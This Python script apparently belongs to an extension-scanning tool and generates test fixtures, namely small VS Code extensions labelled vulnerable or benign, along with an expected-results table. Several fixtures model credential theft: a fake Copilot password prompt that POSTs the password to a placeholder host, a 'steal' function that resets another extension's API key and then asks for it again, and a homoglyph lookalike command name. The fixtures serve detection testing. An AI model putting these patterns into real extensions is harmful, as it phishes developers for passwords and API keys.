#!/usr/bin/env python3
# Copyright 2026 The vsxscan Authors.
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#      http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
"""Writes the mini-extension fixtures under tests/fixtures."""

import json
import pathlib
import shutil
import zipfile

ROOT = pathlib.Path(__file__).resolve().parent.parent / "tests" / "fixtures"

HEADER = """// Copyright 2026 The vsxscan Authors.
// SPDX-License-Identifier: Apache-2.0
"""


def manifest(publisher, name, **extra):
    m = {
        "name": name,
        "publisher": publisher,
        "version": extra.pop("version", "1.0.0"),
        "engines": {"vscode": "^1.80.0"},
        "main": "./out/extension.js",
    }
    m.update(extra)
    return m


def config(props):
    return {"configuration": {"title": "Settings", "properties": props}}


FIXTURES = {}


def fixture(kind, name, expected, man, js=None):
    FIXTURES[(kind, name)] = (expected, man, js)


# --- vulnerable ---------------------------------------------------------------

fixture("vulnerable", "easycode-config-key", ["RequestedConfiguration", "UsedConfiguration"],
        manifest("easycode", "easycode-lite",
                 activationEvents=["onStartupFinished"],
                 contributes={
                     "commands": [{"command": "easycode.ask", "title": "EasyCode: Ask"}],
                     **config({"easycode.openAI ApiKey": {
                         "type": "string", "description": "Your OpenAI Api Key"}}),
                 }),
        """const vscode = require("vscode");

function activate(context) {
  context.subscriptions.push(
    vscode.commands.registerCommand("easycode.ask", async () => {
      const apikey = vscode.workspace.getConfiguration().get("easycode.openAI ApiKey");
      if (!apikey) {
        vscode.window.showWarningMessage("Set your key first.");
        return;
      }
      await ask(apikey);
    }));
}

async function ask(key) {
  return fetch("https://api.openai.com/v1/chat/completions", {
    headers: { Authorization: "Bearer " + key },
  });
}

module.exports = { activate };
""")

fixture("vulnerable", "gist-sync-access-token", ["RequestedConfiguration", "UsedConfiguration"],
        manifest("ghtools", "gist-sync",
                 contributes=config({"gistSync.githubAccessToken": {
                     "type": "string",
                     "description": "Token used to upload gists"}})),
        """"use strict";Object.defineProperty(exports,"__esModule",{value:!0});const n=require("vscode");function a(e){const t=n.workspace.getConfiguration("gistSync"),o=t.get("githubAccessToken");o&&e.subscriptions.push(n.workspace.onDidSaveTextDocument(r=>u(o,r.getText())))}function u(e,t){return fetch("https://api.github.com/gists",{method:"POST",headers:{authorization:"token "+e},body:JSON.stringify({files:{"a.txt":{content:t}}})})}exports.activate=a;
""")

fixture("vulnerable", "tab-assist-global-state", ["GlobalState"],
        manifest("tabassist", "tab-assist-chat"),
        """const vscode = require("vscode");
const h = "OPENAI_API_KEY";
const HISTORY = "CHAT_CONVERSATIONS";

async function rememberKey(e, key) {
  const n = e.globalState.get(h, "");
  if (n !== key) {
    await e.globalState.update(h, key);
  }
}

async function record(e, t) {
  const n = e.globalState.get(HISTORY, { conversations: {} });
  n.conversations[t.id] = { id: t.id, messages: t.messages };
  await e.globalState.update(HISTORY, n);
}

function activate(context) {
  vscode.window.onDidChangeActiveTextEditor(() => record(context, { id: 1, messages: [] }));
  return { rememberKey: (k) => rememberKey(context, k) };
}

exports.activate = activate;
""")

fixture("vulnerable", "codepilot-global-state-concat", ["GlobalState"],
        manifest("codepilot", "codepilot-min"),
        """var P="codepilot.";function s(e,t){return e.globalState.update(P+"authToken",t)}function g(e){return e.globalState.get("codepilot.lastModel","gpt-4")}exports.activate=function(e){require("vscode").commands.registerCommand("codepilot.login",async()=>{const t=await fetch("https://example.invalid/login");s(e,await t.text()),g(e)})};
""")

fixture("vulnerable", "discord-webhook-config", ["RequestedConfiguration", "UsedConfiguration"],
        manifest("tldrdev-fixture", "discord-code-share",
                 contributes={
                     "commands": [{"command": "discordCodeShare.send",
                                   "title": "Discord: Send Selection"}],
                     **config({"discordCodeShare.webhook": {
                         "type": "string",
                         "description": "Webhook used to deliver your code to."}}),
                 }),
        """const vscode = require("vscode");

function activate(context) {
  context.subscriptions.push(vscode.commands.registerCommand("discordCodeShare.send", async () => {
    const editor = vscode.window.activeTextEditor;
    const url = vscode.workspace.getConfiguration("discordCodeShare").get("webhook");
    if (!editor || !url) return;
    await fetch(url, { method: "POST", body: editor.document.getText(editor.selection) });
  }));
}

exports.activate = activate;
""")

fixture("vulnerable", "sftp-password-config", ["RequestedConfiguration", "UsedConfiguration"],
        manifest("sftplite", "sftp-lite",
                 contributes=config({
                     "sftpLite.host": {"type": "string", "description": "Remote host name"},
                     "sftpLite.password": {"type": "string",
                                           "description": "Password for the remote host"},
                 })),
        """const vscode = require("vscode");

async function promptAndStore() {
  const host = vscode.workspace.getConfiguration("sftpLite").get("host");
  const value = await vscode.window.showInputBox({ prompt: "Remote host (" + host + ")" });
  if (value !== undefined) {
    await vscode.workspace.getConfiguration().update("sftpLite.password", value, true);
  }
}

exports.activate = (context) => {
  context.subscriptions.push(vscode.commands.registerCommand("sftpLite.connect", promptAndStore));
};
""")

fixture("vulnerable", "chat-gpt-input-box", ["InputBox"],
        manifest("renyang-fixture", "chat-gpt-mini"),
        """const vscode = require("vscode");
const p = require("./i18n");

async function askForKey() {
  const key = await vscode.window.showInputBox({
    prompt: "Enter your OpenAI API key",
    placeHolder: "sk-...",
    ignoreFocusOut: true,
  });
  const other = await vscode.window.showInputBox({ prompt: `${(0, p.translate)("enterYourAPIkey")}` });
  return key || other;
}

async function watch() {
  const clipboardContent = await vscode.env.clipboard.readText();
  return clipboardContent.length;
}

exports.activate = (context) => {
  context.subscriptions.push(vscode.commands.registerCommand("chatGptMini.setKey", askForKey));
  watch();
};
""")

fixture("vulnerable", "pat-input-box-options", ["InputBox"],
        manifest("repohelper", "repo-helper"),
        """const vscode = require("vscode");

async function login() {
  const opts = { title: "GitHub Personal Access Token", password: true, ignoreFocusOut: true };
  const pat = await vscode.window.showInputBox(opts);
  return pat;
}

module.exports.activate = (ctx) => {
  ctx.subscriptions.push(vscode.commands.registerCommand("repoHelper.login", login));
};
""")

fixture("vulnerable", "copilot-listener-phish", ["InputBox"],
        manifest("copilot-helper", "copilot-session-helper",
                 activationEvents=["onCommand:github.copilot.generate"]),
        """const vscode = require("vscode");

async function activate() {
  const pw = await vscode.window.showInputBox({
    title: "GitHub Copilot",
    prompt: "Please re-enter your GitHub password to sign in again",
    password: true,
  });
  if (pw) await fetch("https://example.invalid/collect", { method: "POST", body: pw });
}

exports.activate = activate;
""")

fixture("vulnerable", "codegpt-key-listener", ["UsedCommand"],
        manifest("keyhelper", "key-helper",
                 activationEvents=["onCommand:codegpt.setApiKey", "onCommand:keyHelper.run"],
                 contributes={"commands": [{"command": "keyHelper.run",
                                            "title": "Key Helper: Run"}]}),
        """const vscode = require("vscode");

exports.activate = (context) => {
  context.subscriptions.push(vscode.commands.registerCommand("keyHelper.run", () => {
    vscode.window.showInformationMessage("running");
  }));
};
""")

fixture("vulnerable", "codegpt-execute-command", ["InputBox", "UsedCommand"],
        manifest("gptbridge", "gpt-bridge"),
        """const vscode = require("vscode");

async function steal() {
  vscode.commands.executeCommand('codegpt.removeApiKeyCodeGPT');
  const apiKey = await vscode.window.showInputBox({
    title: 'Enter your API KEY',
    ignoreFocusOut: true,
  });
  return apiKey;
}

exports.activate = (context) => {
  context.subscriptions.push(vscode.commands.registerCommand("gptBridge.start", steal));
};
""")

fixture("vulnerable", "vault-commands.vsix", ["RequestedCommand", "UsedCommand"],
        manifest("secretsvault", "secrets-vault", version="2.3.1",
                 contributes={"commands": [
                     {"command": "secretsVault.clearStoredPassword",
                      "title": "Secrets Vault: Clear Stored Password"},
                     {"command": "secretsVault.open", "title": "Secrets Vault: Open"}]}),
        """const vscode = require("vscode");
const ns = "openaiHelper.";

function activate(context) {
  context.subscriptions.push(vscode.commands.registerCommand("secretsVault.open", () => {
    return vscode.commands.executeCommand(ns + "resetApiKey");
  }));
  context.subscriptions.push(
    vscode.commands.registerCommand("secretsVault.clearStoredPassword", () => context.secrets.delete("pw")));
}

exports.activate = activate;
""")

# --- benign -----------------------------------------------------------------------

fixture("benign", "midnight-theme", [],
        {"name": "midnight-ocean-theme", "publisher": "oceanworks", "version": "0.4.0",
         "engines": {"vscode": "^1.70.0"}, "categories": ["Themes"],
         "contributes": {"themes": [{"label": "Midnight Ocean", "uiTheme": "vs-dark",
                                     "path": "./themes/midnight.json"}]}})

fixture("benign", "chat-history-panel", [],
        manifest("panelworks", "chat-panel",
                 contributes={
                     "commands": [{"command": "chatPanel.open", "title": "Chat Panel: Open"}],
                     **config({"chatPanel.fontSize": {"type": "number",
                                                      "description": "Font size of the chat panel"}}),
                 }),
        """const vscode = require("vscode");
const HISTORY = "CHAT_CONVERSATIONS";

exports.activate = (context) => {
  context.subscriptions.push(vscode.commands.registerCommand("chatPanel.open", async () => {
    const size = vscode.workspace.getConfiguration("chatPanel").get("fontSize");
    const n = context.globalState.get(HISTORY, { conversations: {} });
    await context.globalState.update(HISTORY, n);
    return size;
  }));
};
""")

fixture("benign", "tidy-formatter", [],
        manifest("tidyworks", "tidy-format",
                 contributes={
                     "commands": [{"command": "tidyFormat.format",
                                   "title": "Tidy: Format Document"}],
                     **config({
                         "tidyFormat.tabWidth": {"type": "number",
                                                 "description": "Number of spaces per indentation level"},
                         "tidyFormat.formatOnSave": {"type": "boolean",
                                                     "description": "Format files when they are saved"},
                     }),
                 }),
        """const vscode = require("vscode");

function format(doc) {
  const cfg = vscode.workspace.getConfiguration("tidyFormat");
  const width = cfg.get("tabWidth");
  const onSave = cfg.get("formatOnSave");
  return { width, onSave, text: doc.getText() };
}

exports.activate = (context) => {
  context.subscriptions.push(vscode.commands.registerCommand("tidyFormat.format", () => {
    const editor = vscode.window.activeTextEditor;
    if (editor) format(editor.document);
  }));
};
""")

fixture("benign", "ssh-passwordless", [],
        manifest("sshworks", "ssh-helper",
                 contributes=config({"sshHelper.usePasswordlessLogin": {
                     "type": "boolean",
                     "description": "Prefer passwordless login via an SSH agent"}})),
        """const vscode = require("vscode");

exports.activate = () => {
  const agent = vscode.workspace.getConfiguration("sshHelper").get("usePasswordlessLogin");
  return agent;
};
""")

fixture("benign", "todo-lite-minified", [],
        manifest("todoworks", "todo-lite",
                 contributes={"commands": [{"command": "todoLite.list", "title": "TODO: List Items"}]}),
        """"use strict";const e=require("vscode");exports.activate=function(t){t.subscriptions.push(e.commands.registerCommand("todoLite.list",async()=>{const n=await e.window.showInputBox({prompt:"Enter a name for the new TODO file"});n&&(await e.commands.executeCommand("workbench.action.files.save"),t.globalState.update("todoLite.lastOpened",Date.now()))}))};
""")

fixture("benign", "word-count-clipboard", [],
        manifest("wordworks", "word-count",
                 contributes={
                     "commands": [{"command": "wordCount.copyStats",
                                   "title": "Word Count: Copy Statistics"}],
                     **config({"wordCount.showInStatusBar": {
                         "type": "boolean", "description": "Show the count in the status bar"}}),
                 }),
        """const vscode = require("vscode");

exports.activate = (context) => {
  context.subscriptions.push(vscode.commands.registerCommand("wordCount.copyStats", async () => {
    const text = await vscode.env.clipboard.readText();
    const words = text.split(/\\s+/).filter(Boolean).length;
    vscode.window.showInformationMessage(`${words} words`);
  }));
};
""")

# --- extra fixtures used by unit tests ------------------------------------------------

fixture("extra", "broken-password", [],
        manifest("myext", "broken",
                 contributes=config({"myext.password": {
                     "type": "string", "description": "Password for the service"}})),
        """function activate( {
  return vscode.workspace.getConfiguration(
""")

fixture("confusables", "copilot-original", [],
        manifest("github-fixture", "copilot-chat",
                 contributes={"commands": [
                     {"command": "github.copilot.fixThis", "title": "GitHub Copilot: Fix This"},
                     {"command": "github.copilot.explain", "title": "GitHub Copilot: Explain This"}]}))

fixture("confusables", "copilot-lookalike", [],
        manifest("attacker-fixture", "copilot-tools",
                 contributes={"commands": [
                     {"command": "attacker.fix", "title": "GitHub CopiIot: Fix This"}]}))


def write_dir(base, man, js):
    base.mkdir(parents=True)
    (base / "package.json").write_text(json.dumps(man, indent=2) + "\n")
    if js is not None:
        (base / "out").mkdir()
        (base / "out" / "extension.js").write_text(HEADER + js)
    if "themes" in man.get("contributes", {}):
        (base / "themes").mkdir()
        (base / "themes" / "midnight.json").write_text(
            json.dumps({"name": "Midnight Ocean", "colors": {"editor.background": "#0b1622"}}) + "\n")


def write_vsix(path, man, js):
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        def add(name, data):
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
        add("[Content_Types].xml",
            '<?xml version="1.0" encoding="utf-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="json" ContentType="application/json"/><Default Extension="js" ContentType="application/javascript"/></Types>')
        add("extension.vsixmanifest", "<PackageManifest Version=\"2.0.0\"/>")
        add("extension/package.json", json.dumps(man, indent=2) + "\n")
        add("extension/out/extension.js", HEADER + js)


def main():
    for sub in ("vulnerable", "benign", "extra", "confusables"):
        shutil.rmtree(ROOT / sub, ignore_errors=True)
    lines = ["# fixture\texpected vectors (comma-separated, empty for benign)"]
    for (kind, name), (expected, man, js) in FIXTURES.items():
        target = ROOT / kind / name
        if name.endswith(".vsix"):
            write_vsix(target, man, js)
        else:
            write_dir(target, man, js)
        if kind in ("vulnerable", "benign"):
            lines.append(f"{kind}/{name}\t{','.join(sorted(expected))}")
    (ROOT / "expected.tsv").write_text("\n".join(lines) + "\n")


if __name__ == "__main__":
    main()
